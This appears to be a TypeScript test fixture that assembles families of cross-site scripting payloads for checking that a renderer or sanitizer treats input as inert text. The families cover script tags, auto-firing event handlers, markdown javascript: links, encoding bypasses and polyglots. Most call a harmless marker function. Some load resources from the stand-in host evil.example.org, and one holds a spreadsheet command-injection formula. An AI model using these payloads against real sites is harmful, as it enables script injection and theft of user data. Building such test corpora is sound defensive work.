import {
  buildMutationPayloads,
  buildReservedNamePayloads,
  buildStylePayloads,
  buildSvgPayloads,
  buildTemplatePayloads,
  buildUrlPayloads,
} from "./payload-families.ts";

/** The function that payloads call; `trackExecutions` defines it on every page. */
const call = "ran(1)";

const combine = <A, B>(left: readonly A[], right: readonly B[], join: (a: A, b: B) => string) =>
  left.flatMap((a) => right.map((b) => join(a, b)));

/** Sequences that break out of their context. */
const closers = [
  '">',
  "'>",
  "`>",
  "</textarea>",
  "</title>",
  "</script>",
  "</style>",
  "</noscript>",
  "-->",
  "]]>",
  "\\');",
];
const scripts = [`<script>${call}</script>`, `<img src=x onerror=${call}>`, `<svg onload=${call}>`];
const tags = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<script/x>${call}</script/x>`,
  `<script\n>${call}</script\n>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script type=module>${call}</script>`,
  `<script src=data:text/javascript,${call}></script>`,
  "<script src=//evil.example.org/x.js></script>",
  `<<script>${call}//<</script>`,
  `<script>/*<!--*/${call}/*-->*/</script>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src=javascript:parent.${call}>`,
  `<object data=data:text/html,<script>${call}</script>>`,
  `<embed src=javascript:${call}>`,
  `<frameset onload=${call}>`,
  `<meta http-equiv=refresh content=0;url=javascript:${call}>`,
  "<meta http-equiv=refresh content=0;url=//evil.example.org>",
  "<base href=//evil.example.org/>",
  "<link rel=stylesheet href=//evil.example.org/x.css>",
  `<link rel=import href=data:text/html,<script>${call}</script>>`,
  "<form action=//evil.example.org><button>go",
  `<button formaction=javascript:${call}>go`,
  `<isindex type=image src=x onerror=${call}>`,
  "<portal src=//evil.example.org>",
  "<img src=//evil.example.org/p.png>",
  ...combine(closers, scripts, (closer, code) => closer + code),
];

/** Elements with an event that fires without a user action or on a minor one. */
const eventElements: readonly [string, string][] = [
  ["img src=x", "onerror"],
  ["image src=x", "onerror"],
  ["video src=x", "onerror"],
  ["audio src=x", "onloadstart"],
  ["video><source", "onerror"],
  ["object data=x", "onerror"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["body", "onhashchange"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["a tabindex=1 autofocus", "onfocusin"],
  ["details open", "ontoggle"],
  ["div popover id=x", "onbeforetoggle"],
  ["dialog open", "onclose"],
  ["marquee", "onstart"],
  ["div style=animation-name:spin", "onanimationstart"],
  ["div style=transition:1s", "ontransitionrun"],
  ["div", "onpointerenter"],
  ["div contenteditable", "oninput"],
  ["div contenteditable", "onpaste"],
  ["div draggable=true", "ondragstart"],
  ["div", "onwheel"],
  ["iframe", "onload"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["slot", "onslotchange"],
  ["div hidden=until-found", "onbeforematch"],
  ["div style=content-visibility:auto", "oncontentvisibilityautostatechange"],
];
const attributeValues = [`=${call}`, `="${call}"`, `\n=\n'${call}'`];
const handlers = combine(eventElements, attributeValues, ([element, event], value) => `<${element} ${event}${value}>`);

const markdown = [
  `[x](javascript:${call})`,
  `[x](JaVaScRiPt:${call})`,
  `[x](java\nscript:${call})`,
  `[x](&#106;avascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x]: javascript:${call}`,
  `![x](x"onerror="${call})`,
  "![](https://evil.example.org/p.png)",
  `![x](javascript:${call})`,
  `<javascript:${call}>`,
  `[x](data:text/html,<script>${call}</script>)`,
  `[![x](x)](javascript:${call})`,
  `\`\`\`<img src=x onerror=${call}>\`\`\``,
  `| <svg onload=${call}> |\n| --- |`,
  `[^1]: <img src=x onerror=${call}>`,
  `* <details open ontoggle=${call}>`,
  `[x](https://example.org "onmouseover=${call}")`,
];

const encode = (text: string, encodeCharacter: (code: number) => string) =>
  Array.from(text, (character) => encodeCharacter(character.codePointAt(0) ?? 0)).join("");
const hex = (code: number, digits: number) => code.toString(16).padStart(digits, "0");
const image = `<img src=x onerror=${call}>`;
const characterEncodings: ((code: number) => string)[] = [
  (code) => `&#${code};`,
  (code) => `&#${code}`,
  (code) => `&#0000${code};`,
  (code) => `&#x${hex(code, 2)};`,
  (code) => `&amp;#${code};`,
  (code) => `\\u${hex(code, 4)}`,
  (code) => `\\x${hex(code, 2)}`,
  (code) => `\\u{${hex(code, 1)}}`,
  (code) => `%${hex(code, 2)}`,
  (code) => `%25${hex(code, 2)}`,
  (code) => `\\${hex(code, 6)}`,
  (code) => `\\${code.toString(8)}`,
];
const encodings = [
  ...characterEncodings.flatMap((encodeCharacter) => [
    encode("<b>", encodeCharacter) + image,
    encode("<svg onload=ran(1)>", encodeCharacter),
  ]),
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&ltimg src=x onerror=${call}&gt`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `\u00bcscript\u00be${call}`,
  `%c0%bcscript%c0%be${call}`,
  `\u2028<img src=x onerror=${call}>`,
  `<img src=x onerror\u3000=${call}>`,
  Buffer.from(image).toString("base64"),
  `<img/src="x"/onerror="${encode(call, (code) => `&#${code};`)}">`,
  `<a href="&#x6a;avascript&colon;${call}">x</a>`,
  `\u0130<script>${call}</script>`,
  `<\u017fcript>${call}</\u017fcript>`,
];

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
  `'"--></style></script><svg onload=${call}>`,
  `"onclick=${call}//<button onclick=${call}//>*/${call}//`,
  `';${call}//";${call}//--></script>">'><script>${call}</script>`,
  `{{'a'.constructor}}\${${call}}<svg/onload=${call}>[x](javascript:${call})`,
  `=cmd|'/c calc'!A1,"<script>${call}</script>"`,
  `%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>${call}</script>`,
];

/**
 * Payloads by family: texts that would run code, send requests or change the page if they were treated as anything but
 * text.
 */
export const payloadFamilies: Readonly<Record<string, readonly string[]>> = {
  tags,
  handlers,
  urls: buildUrlPayloads(call),
  svgs: buildSvgPayloads(call),
  mutations: buildMutationPayloads(call),
  templates: buildTemplatePayloads(call),
  styles: buildStylePayloads(call),
  markdown,
  encodings,
  reservedNames: buildReservedNamePayloads(call),
  polyglots,
};
export const payloads: readonly string[] = [...new Set(Object.values(payloadFamilies).flat())];
